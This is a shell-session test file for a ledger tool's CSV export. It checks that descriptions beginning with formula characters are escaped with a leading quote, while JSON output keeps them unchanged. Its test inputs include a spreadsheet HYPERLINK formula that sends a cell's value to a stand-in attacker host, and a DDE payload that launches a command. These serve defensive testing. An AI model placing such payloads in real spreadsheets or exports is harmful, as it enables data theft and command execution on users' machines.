A description that starts with =, +, -, @, a tab or a carriage return is written to CSV output
with a leading ' (docs/limits.md, "Output safety"), so a spreadsheet shows it as text instead of
running it as a formula (=HYPERLINK(…), DDE payloads). Amounts, negative ones too, stay numbers.

  $ . "$TESTDIR/../setup.sh"; hide_hashes
  $ fundledger -f j.jsonl init --ledger-id demo --target 700000 > /dev/null
  $ fundledger -f j.jsonl post --id T-1 --date 2024-01-05 --description '=HYPERLINK("http://evil.example/?x="&A1,"Refund")' --posting "Assets:Bank:BJB 1500 USD" --posting "Equity:Opening -1500 USD" > /dev/null
  $ fundledger -f j.jsonl post --id T-2 --date 2024-01-06 --description '@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0' --posting "Assets:Bank:BJB -2 USD" --posting "Equity:Opening 2 USD" > /dev/null
  $ fundledger -f j.jsonl post --id T-3 --date 2024-01-07 --description '-10+20' --posting "Assets:Bank:BJB 3 USD" --posting "Equity:Opening -3 USD" > /dev/null
  $ fundledger -f j.jsonl register Assets --format csv
  row,date,seq,id,description,account,currency,amount,balance\r (esc)
  line,2024-01-05,1,T-1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Refund"")",Assets:Bank:BJB,USD,1500.00,1500.00\r (esc)
  line,2024-01-06,2,T-2,'@SUM(1+1)*cmd|' /C calc'!A0,Assets:Bank:BJB,USD,-2.00,1498.00\r (esc)
  line,2024-01-07,3,T-3,'-10+20,Assets:Bank:BJB,USD,3.00,1501.00\r (esc)
  total,,,,,Total,USD,1501.00,1501.00\r (esc)
  $ fundledger -f j.jsonl balance --format csv
  row,account,currency,amount\r (esc)
  subtotal,Assets,USD,1501.00\r (esc)
  subtotal,Assets:Bank,USD,1501.00\r (esc)
  line,Assets:Bank:BJB,USD,1501.00\r (esc)
  subtotal,Equity,USD,-1501.00\r (esc)
  line,Equity:Opening,USD,-1501.00\r (esc)
  total,Total,USD,0.00\r (esc)

JSON keeps the text as it is: it is data, not a spreadsheet.

  $ fundledger -f j.jsonl register Assets --format json | grep -o '"description":"[^"]*' | head -1
  "description":"=HYPERLINK(\
